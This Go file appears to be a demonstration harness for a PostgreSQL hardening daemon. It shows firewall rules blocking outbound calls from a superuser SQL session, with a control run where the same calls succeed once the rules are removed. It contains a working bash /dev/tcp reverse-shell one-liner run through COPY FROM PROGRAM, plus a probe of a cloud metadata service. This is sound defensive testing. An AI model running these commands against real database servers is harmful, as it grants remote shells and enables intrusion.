package main

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/netip"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"time"

	"golang.org/x/sync/errgroup"

	"github.com/pghardend/pghardend/internal/testbed"
)

const (
	shellPort    = 4444
	metadataPort = 80
	patience     = 3 // seconds that a call out of the database may take
)

// shell is a listener at the sibling that has whoever calls run a harmless command.
type shell struct {
	listener net.Listener
	done     sync.WaitGroup

	mu       sync.Mutex
	calls    int
	identity string // what id said
}

var identity = regexp.MustCompile(`uid=\d+\([^)]*\)`)

func listen(ctx context.Context, h *testbed.Host, at netip.AddrPort) (*shell, error) {
	l, err := h.Listen(ctx, at)
	if err != nil {
		return nil, fmt.Errorf("cannot listen on %s at %v: %w", h.Name(), at, err)
	}
	s := &shell{listener: l}
	s.done.Go(func() {
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			s.serve(conn)
		}
	})
	return s, nil
}

func (s *shell) serve(conn net.Conn) {
	defer conn.Close()
	s.mu.Lock()
	s.calls++
	s.mu.Unlock()
	if conn.SetDeadline(time.Now().Add(patience*time.Second)) != nil {
		return
	}
	if _, err := io.WriteString(conn, "id\nexit\n"); err != nil {
		return
	}
	said, _ := io.ReadAll(io.LimitReader(conn, 1<<16)) // what came counts, however it ended
	s.mu.Lock()
	defer s.mu.Unlock()
	s.identity = identity.FindString(string(said))
}

func (s *shell) close() error {
	err := s.listener.Close()
	s.done.Wait()
	return err
}

// call is what became of one attempt of the database to call out.
type call struct {
	to       netip.AddrPort
	answer   error // what the SQL session got
	calls    int   // connections at the listener
	identity string
}

// callOut has a superuser's session open a reverse shell to the sibling, over both families at once.
func (d *demo) callOut(ctx context.Context) ([2]call, error) {
	var calls [2]call
	err := eachFamily(func(i int, v6 bool) error {
		to := at(d.in.Sibling(), v6, shellPort)
		s, err := listen(ctx, d.in.Sibling(), to)
		if err != nil {
			return err
		}
		failed := d.program(ctx, fmt.Sprintf("bash -i >& /dev/tcp/%s/%d 0>&1", to.Addr(), to.Port()))
		err = s.close()
		calls[i] = call{to, failed, s.calls, s.identity}
		return err
	})
	return calls, err
}

// eachFamily runs f for IPv4 (0) and IPv6 (1) at once.
func eachFamily(f func(i int, v6 bool) error) error {
	var group errgroup.Group
	for i, v6 := range []bool{false, true} {
		group.Go(func() error { return f(i, v6) })
	}
	return group.Wait()
}

// endIt is a shell script that ends another one after a while. What is dropped is otherwise tried for two minutes.
const endIt = `(%s) & it=$!; (sleep %d; kill -9 $it) >/dev/null 2>&1 & wait $it`

// program runs a command in bash as a superuser's SQL session can, on the primary.
func (d *demo) program(ctx context.Context, command string) error {
	pg, h := d.in.Primary()
	script := fmt.Sprintf(endIt, command, patience)
	_, err := pg.PsqlSocket(ctx, h, "CREATE TEMP TABLE said (line text); COPY said FROM PROGRAM $program$bash -c '"+script+"'$program$")
	return err
}

// reverseShell shows that nothing arrives, and what stopped it.
func (d *demo) reverseShell(ctx context.Context) error {
	_, h := d.in.Primary()
	sibling := d.in.Sibling()
	fmt.Fprintf(d.out, "   COPY … FROM PROGRAM 'bash -i >& /dev/tcp/%v/%d 0>&1', as superuser on %s, and the same over IPv6.\n   Landlock, which would deny the shell, is switched off, so that netfilter has to do alone\n", sibling.V4(), shellPort, h.Name())
	wire, err := sibling.Capture(func(p testbed.Packet) bool { return !p.Out && p.Proto == testbed.ProtoTCP && p.DstPort == shellPort })
	if err != nil {
		return err
	}
	before, err := drops(ctx, h)
	if err != nil {
		return errors.Join(err, wire.Close())
	}
	calls, err := d.callOut(ctx)
	if err := errors.Join(err, wire.Close()); err != nil {
		return err
	}
	after, err := drops(ctx, h)
	if err != nil {
		return err
	}
	for i, c := range calls {
		v6 := i == 1
		d.observe("pg-0", "the SQL session gets", sessionGot(c.answer), "program failed")
		d.observe("sibling", fmt.Sprintf("its listener at %v has seen", c.to), plural(c.calls, "connection"), "no connection")
		n := wire.Count(func(p testbed.Packet) bool { return p.Dst.Is6() == v6 })
		d.observe("sibling", "its interface has seen", plural(n, "packet"), "no packet")
		d.observeDrops(after, before, dropKey{v6, "PGHARDEND-OUT", "drop"})
		if err := d.explainDenied(ctx, c.to); err != nil {
			return err
		}
	}
	return nil
}

// explainDenied lets the node name what stopped it.
func (d *demo) explainDenied(ctx context.Context, to netip.AddrPort) error {
	_, h := d.in.Primary()
	r, err := d.in.Agent(h.Name()).CLI(ctx, "explain", "--from", at(h, to.Addr().Is6(), 0).Addr().String(), "--to", to.Addr().String(), "--port", strconv.Itoa(int(to.Port())))
	if err != nil {
		return err
	}
	d.observe("pg-0", "stopped by the layer netfilter; explain says", fmt.Sprintf("exit code %d", r.Code), "exit code 4")
	fmt.Fprintln(d.out, indent(indent(r.Stdout)))
	return nil
}

// metadata is closed to the services' user, and open to root.
func (d *demo) metadata(ctx context.Context) error {
	if err := d.askMetadata(ctx, "no connection"); err != nil {
		return err
	}
	_, h := d.in.Primary()
	for _, v6 := range []bool{false, true} {
		to := at(d.in.Metadata(), v6, metadataPort)
		server, err := d.in.Metadata().ServeTCP(ctx, to)
		if err != nil {
			return err
		}
		v, err := h.Connect(ctx, to)
		if err := errors.Join(err, server.Close()); err != nil {
			return err
		}
		d.observe(h.Name(), fmt.Sprintf("root connects to %v", to), string(v), string(testbed.Open))
	}
	return nil
}

// askMetadata has a superuser's SQL session connect to the metadata service, over both families at once.
func (d *demo) askMetadata(ctx context.Context, want string) error {
	_, h := d.in.Primary()
	before, err := drops(ctx, h)
	if err != nil {
		return err
	}
	var got [2]int
	err = eachFamily(func(i int, v6 bool) error {
		to := at(d.in.Metadata(), v6, metadataPort)
		server, err := d.in.Metadata().ServeTCP(ctx, to)
		if err != nil {
			return err
		}
		failed := d.program(ctx, fmt.Sprintf("exec 3<>/dev/tcp/%s/%d", to.Addr(), to.Port()))
		err = server.Close()
		if got[i] = server.Received(); got[i] == 0 && failed == nil {
			err = errors.Join(err, errors.New("the SQL session says that it reached the metadata service, which got nothing"))
		}
		return err
	})
	if err != nil {
		return err
	}
	after, err := drops(ctx, h)
	if err != nil {
		return err
	}
	for i, v6 := range []bool{false, true} {
		d.observe(h.Name(), fmt.Sprintf("the user postgres connects to %v", at(d.in.Metadata(), v6, metadataPort)), plural(got[i], "connection"), want)
		if got[i] == 0 {
			d.observeDrops(after, before, dropKey{v6, "PGHARDEND-META", "metadata"})
		}
	}
	return nil
}

// unprotected is the control of the scenes before: without the rules, and with all else as it was, the same acts succeed.
func (d *demo) unprotected(ctx context.Context) error {
	pg, h := d.in.Primary()
	a := d.in.Agent(h.Name())
	if code, err := a.Stop(ctx); err != nil || code != 0 {
		return errors.Join(err, fmt.Errorf("pghardend run on %s ended with exit code %d", h.Name(), code))
	}
	r, err := a.CLI(ctx, "teardown")
	if err != nil {
		return err
	}
	d.observe(h.Name(), "pghardend teardown", fmt.Sprintf("exit code %d", r.Code), "exit code 0")
	if err := d.siblingQueries(ctx, "answered"); err != nil {
		return err
	}
	calls, err := d.callOut(ctx)
	if err != nil {
		return err
	}
	for _, c := range calls {
		d.observe("sibling", fmt.Sprintf("runs id by the shell at %v", c.to), c.identity, fmt.Sprintf("uid=%s(%s)", pg.User.Uid, pg.User.Username))
	}
	if err := d.askMetadata(ctx, "1 connection"); err != nil {
		return err
	}
	if err := a.Start(); err != nil { //nolint:contextcheck // the daemon outlives ctx
		return err
	}
	if err := a.Await(ctx, "status ok", a.OK); err != nil {
		return err
	}
	d.say("pghardend run again, beside the running server:")
	return d.siblingQueries(ctx, "no answer")
}

// siblingQueries: the sibling asks the primary as its superuser, who needs no password from the subnet.
func (d *demo) siblingQueries(ctx context.Context, want string) error {
	pg, h := d.in.Primary()
	for _, v6 := range []bool{false, true} {
		to := at(h, v6, pg.Port)
		v, err := d.in.Sibling().Connect(ctx, to) // no answer is neither a refusal nor an error of the program
		if err != nil {
			return err
		}
		got := string(v)
		if v == testbed.Open {
			got = d.sql(ctx, d.in.Sibling(), pg.Conninfo(to.Addr(), testbed.Superuser))
		}
		d.observe(testbed.SiblingHost, fmt.Sprintf("psql to %v", to), got, want)
	}
	return nil
}

// dropKey names rules that drop.
type dropKey struct {
	v6         bool
	chain, tag string
}

var dropRule = regexp.MustCompile(`(?m)^\[(\d+):\d+\] -A (PGHARDEND-\S+) .*--comment "?pghardend:([a-z-]+)"? .*-j DROP$`)

// drops reads the kernel's counters of what was dropped on a host.
func drops(ctx context.Context, h *testbed.Host) (map[dropKey]int, error) {
	counts := map[dropKey]int{}
	for _, v6 := range []bool{false, true} {
		tool := map[bool]string{false: "iptables-save", true: "ip6tables-save"}[v6]
		out, err := h.Run(ctx, tool, "-c", "-t", "filter")
		if err != nil {
			return nil, err
		}
		for _, m := range dropRule.FindAllStringSubmatch(out, -1) {
			n, err := strconv.Atoi(m[1])
			if err != nil {
				return nil, fmt.Errorf("cannot read a counter of %s: %w", tool, err)
			}
			counts[dropKey{v6, m[2], m[3]}] += n
		}
	}
	return counts, nil
}

// observeDrops wants that rules have dropped something between two looks at the counters.
func (d *demo) observeDrops(after, before map[dropKey]int, rules dropKey) {
	_, h := d.in.Primary()
	got := "nothing"
	if after[rules] > before[rules] {
		got = "what it sent"
	}
	tool := map[bool]string{false: "iptables", true: "ip6tables"}[rules.v6]
	d.observe(h.Name(), fmt.Sprintf("%s, %s (%s) has dropped", tool, rules.chain, rules.tag), got, "what it sent")
}

// sessionGot: the program's failure is what is expected; anything else is shown.
func sessionGot(err error) string {
	switch {
	case err == nil:
		return "no error"
	case strings.Contains(err.Error(), "child process exited"):
		return "program failed"
	}
	return err.Error()
}

func plural(n int, what string) string {
	switch n {
	case 0:
		return "no " + what
	case 1:
		return "1 " + what
	}
	return fmt.Sprintf("%d %ss", n, what)
}
